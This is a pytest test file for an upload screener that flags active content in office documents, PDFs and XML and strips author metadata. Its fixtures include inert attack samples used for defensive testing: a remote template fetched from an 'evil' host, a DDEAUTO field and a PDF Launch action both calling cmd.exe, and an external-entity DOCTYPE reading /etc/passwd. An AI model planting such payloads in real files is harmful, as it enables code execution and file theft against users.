"""Programs in documents; what documents tell about their makers."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pikepdf
import pytest
from openpyxl.comments import Comment

from ckanext.qatar_sectors.files.purposes import Purpose

from tests.unit.files.conftest import ooxml, zipped

NAME = "Fulan Al-Fulani"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100
BOOK = "Workbook".encode("utf-16-le")
XLM = b"\x85\x00\x0e\x00" + b"\x00\x01\x00\x00" + b"\x00\x01" + b"\x06\x00Macro1"
PLAIN_SHEET = b"\x85\x00\x0e\x00" + b"\x00\x01\x00\x00" + b"\x00\x00" + b"\x06\x00Sheet1"


@pytest.mark.parametrize(
    ("body", "name", "reason"),
    [
        (ooxml("spreadsheetml.sheet", ("xl/vbaProject.bin", "x")), "x.xlsx", "macros"),
        (ooxml("spreadsheetml.sheet", ("xl/macrosheets/sheet1.xml", "x")), "x.xlsx", "macros"),
        (ooxml("spreadsheetml.sheet", ("xl/activeX/activeX1.bin", "x")), "x.xlsx", "macros"),
        (ooxml("wordprocessingml.document", ("word/embeddings/oleObject1.bin", "x")), "x.docx", "macros"),
        (ooxml(types='<Default Extension="x" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'), "x.xlsx", "macros"),
        (ooxml("wordprocessingml.document", ("word/_rels/settings.xml.rels", '<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>')), "x.docx", "active_content"),
        (ooxml("wordprocessingml.document", ("word/document.xml", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")), "x.docx", "active_content"),
        (zipped([("mimetype", ODS), ("Basic/Standard/Module1.xml", "x")]), "x.ods", "macros"),
        (zipped([("mimetype", ODS), ("content.xml", '<a xlink:href="vnd.sun.star.script:x"/>')]), "x.ods", "macros"),
        (OLE + BOOK + "_VBA_PROJECT_CUR".encode("utf-16-le"), "x.xls", "macros"),
        (OLE + BOOK + XLM, "x.xls", "macros"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "x.xlsx", "encrypted"),
    ],
)  # fmt: skip
def test_programs_in_office_documents_are_found(reasons, body, name, reason):
    assert reasons(body, name) == [reason]


def test_a_plain_old_workbook_is_taken(reasons):
    assert reasons(OLE + BOOK + PLAIN_SHEET, "x.xls") == []


def pdf(change=None):
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(200, 200))
        document.pages[0].Contents = document.make_stream(b"BT (visible) Tj ET")
        if change:
            change(document)
        document.save(out)
    return out.getvalue()


def with_script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_launch(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def with_hidden_script(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x")
    document.pages[0].AA = pikepdf.Dictionary(O=action)


def with_attachment(document):
    document.attachments["secret.txt"] = NAME.encode()


def with_names(document):
    document.docinfo["/Author"] = NAME
    with document.open_metadata() as xmp:
        xmp["dc:creator"] = [NAME]
    with_attachment(document)


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (with_script, "pdf_script"),
        (with_hidden_script, "pdf_script"),
        (with_launch, "pdf_launch"),
    ],
)
def test_what_runs_in_a_pdf_is_found(reasons, change, reason):
    assert reasons(pdf(change), "x.pdf") == [reason]


def test_a_pdf_behind_other_bytes_is_refused(reasons):
    assert reasons(b"GIF" + pdf(), "x.pdf") == ["polyglot"]
    assert reasons(b"%PDF-1.4 and nothing", "x.pdf") == ["broken"]


def test_a_pdf_with_a_password_is_refused(reasons):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    assert reasons(out.getvalue(), "x.pdf") == ["encrypted"]


def whole(body):
    """Return every string and stream of a PDF, read again."""
    with pikepdf.open(io.BytesIO(body)) as document:
        parts = [repr(document.trailer), *(repr(each) for each in document.objects)]
        parts += [
            each.read_bytes().decode("latin-1")
            for each in document.objects
            if isinstance(each, pikepdf.Stream)
        ]
        return "\n".join(parts)


def test_a_pdf_tells_nothing_of_its_makers_and_looks_the_same(checked):
    before = pdf(with_names)
    assert NAME in whole(before)
    report, after = checked(before, "x.pdf")
    assert report.mended == ("metadata",)
    assert NAME not in whole(after)
    with pikepdf.open(io.BytesIO(before)) as old, pikepdf.open(io.BytesIO(after)) as new:
        assert not new.attachments
        assert "/Info" not in new.trailer
        assert [p.Contents.read_bytes() for p in new.pages] == [
            p.Contents.read_bytes() for p in old.pages
        ]


def test_an_earlier_revision_of_a_pdf_goes(checked):
    first = pdf()
    # An incremental update: the old catalogue and a note stay in the file, unreachable.
    note = b"\n9 0 obj\n(" + NAME.encode() + b")\nendobj\n"
    body = first[: first.rindex(b"startxref")] + note + first[first.rindex(b"startxref") :]
    assert NAME.encode() in body
    assert NAME.encode() not in checked(body, "x.pdf")[1]


def signed(document):
    value = pikepdf.Dictionary(Type=pikepdf.Name.Sig, ByteRange=[0, 1, 2, 3], Contents=b"x")
    field = pikepdf.Dictionary(FT=pikepdf.Name.Sig, V=document.make_indirect(value))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[document.make_indirect(field)])
    document.docinfo["/Author"] = NAME


def test_a_signed_pdf_stays_as_it_is_unless_nobody_may_be_known(checked):
    body = pdf(signed)
    assert checked(body, "x.pdf")[1] == body
    assert NAME not in whole(checked(body, "x.pdf", Purpose.EVIDENCE)[1])


def test_a_workbook_tells_nothing_of_its_makers_and_holds_the_same(checked):
    book = openpyxl.Workbook()
    book.active.append(["البلدية", 190])
    book.active["A1"].comment = Comment("a remark", NAME)
    book.properties.creator = book.properties.lastModifiedBy = NAME
    out = io.BytesIO()
    book.save(out)
    _report, after = checked(out.getvalue(), "x.xlsx")
    with zipfile.ZipFile(io.BytesIO(after)) as package:
        assert not any(NAME.encode() in package.read(name) for name in package.namelist())
        assert {entry.date_time[0] for entry in package.infolist()} == {1980}
    again = openpyxl.load_workbook(io.BytesIO(after))
    assert [cell.value for cell in again.active[1]] == ["البلدية", 190]
    assert again.active["A1"].comment.text == "a remark"


WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def test_a_letter_keeps_its_words_and_loses_names_and_sessions(checked):
    text = (
        f'<w:document {WORD}><w:p w:rsidR="00AA11"><w:ins w:author="{NAME}" w:date="2026-01-01T00:00:00Z">'
        "<w:r><w:t>النص الظاهر</w:t></w:r></w:ins></w:p></w:document>"
    )
    body = ooxml(
        "wordprocessingml.document",
        ("word/document.xml", text),
        ("word/comments.xml", f'<w:comments {WORD}><w:comment w:author="{NAME}" w:initials="FF"/></w:comments>'),
        ("word/settings.xml", f'<w:settings {WORD}><w:rsids><w:rsid w:val="00AA11"/></w:rsids></w:settings>'),
        ("docProps/core.xml", f"<creator>{NAME}</creator>"),
        ("docProps/thumbnail.jpeg", NAME),
    )  # fmt: skip
    _report, after = checked(body, "x.docx")
    with zipfile.ZipFile(io.BytesIO(after)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert "النص الظاهر".encode() in parts["word/document.xml"]
    joined = b"".join(parts.values())
    assert NAME.encode() not in joined
    assert b"00AA11" not in joined
    assert "docProps/thumbnail.jpeg" not in parts


def test_an_odf_sheet_loses_its_makers(checked):
    meta = f"<office:document-meta><dc:creator>{NAME}</dc:creator></office:document-meta>"
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<office:annotation><dc:creator>{NAME}</dc:creator>كلام</office:annotation></office:document-content>"
    )
    body = zipped(
        [
            ("mimetype", ODS),
            ("meta.xml", meta),
            ("content.xml", content),
            ("Thumbnails/thumbnail.png", NAME),
        ]
    )
    _report, after = checked(body, "x.ods")
    with zipfile.ZipFile(io.BytesIO(after)) as package:
        assert package.namelist()[0] == "mimetype"
        assert package.infolist()[0].compress_type == zipfile.ZIP_STORED
        joined = b"".join(package.read(name) for name in package.namelist())
    assert NAME.encode() not in joined
    assert "كلام".encode() in joined


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"<?xml version='1.0'?><!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>", "doctype"),
        (b"<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?><a/>", "active_content"),
        (b"<a><x:script xmlns:x='http://www.w3.org/1999/xhtml'>1</x:script></a>", "active_content"),
        (b"<a>" + b" " * 1_048_570 + b"<script>1</script></a>", "active_content"),
        ("<?xml version='1.0'?><a><script>1</script></a>".encode("utf-16"), "active_content"),
    ],
)
def test_xml_that_acts_is_refused(reasons, body, reason):
    assert reasons(body, "x.xml") == [reason]
